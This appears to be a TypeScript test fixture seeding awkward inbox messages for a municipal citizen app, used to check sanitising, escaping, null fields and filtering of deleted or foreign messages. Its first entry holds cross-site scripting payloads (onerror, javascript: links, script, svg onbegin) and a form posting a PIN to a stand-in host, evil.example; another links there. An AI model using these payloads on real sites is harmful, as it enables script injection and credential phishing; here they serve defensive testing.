import { ada } from '../../seed/citizens/people.ts';
import type { SeedMessage } from '../seed.ts';

type Short = Omit<SeedMessage, 'taxCode'>;

const messages: readonly Short[] = [
  // Hostile body and link: nothing of it may run or lead anywhere.
  {
    sender: 'multe',
    at: '-5 03:00',
    title: 'Verifica <img src=x onerror="alert(1)"> i tuoi dati',
    body: `<p style="position:fixed;inset:0" onclick="alert('messaggio')">Clicca <a href="javascript:alert('messaggio')">qui</a>
<iframe src="https://evil.example"></iframe><script>document.title = 'Violato'</script>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg></p><form action="https://evil.example"><input name="pin"></form>`,
    link: 'javascript:alert(document.domain)',
  },
  {
    sender: 'tari',
    at: '-8 03:00',
    title: 'Rimborso',
    body: '<p>Ritira il rimborso.</p>',
    link: '//evil.example/rimborso',
  },
  // Text without markup, with characters that HTML would eat.
  {
    sender: 'mensa',
    at: '-10 08:00',
    title: 'Menù & diete',
    body: 'Costo < 5 € a pasto, sconto > 10% dal terzo figlio.',
  },
  // Only a title, only a body, a service that no longer exists.
  { sender: 'allerta_meteo', at: '-11 08:00', title: 'Scuole aperte regolarmente', body: null },
  { sender: null, at: '-13 08:00', title: null, body: '<p>Il tuo certificato è pronto.</p>' },
  {
    sender: 'servizio_cessato',
    at: '-300 08:00',
    title: 'Servizio non più attivo',
    body: '<p>Grazie.</p>',
    readAt: '-299 08:00',
  },
  // One very long line.
  {
    sender: 'biblioteca_civica',
    at: '-16 08:00',
    title: `Novità${' in biblioteca'.repeat(20)}`,
    body: `<p>${'Ottobre'.repeat(120)}</p>`,
    readAt: '-16 09:00',
  },
  // Never shown: one is deleted, one belongs to another municipality.
  {
    sender: 'tari',
    at: '-17 08:00',
    title: 'Messaggio eliminato',
    body: '<p>x</p>',
    tag: 'citfac,c_x999,deleted',
  },
  {
    sender: 'tari',
    at: '-17 09:00',
    title: 'Messaggio di un altro Comune',
    body: '<p>x</p>',
    tag: 'citfac,c_x998',
  },
];

/** Messages with edge cases; two of them must not appear in any list. */
export const awkwardMessages: readonly SeedMessage[] = messages.map((message) => ({
  taxCode: ada.taxCode,
  ...message,
}));
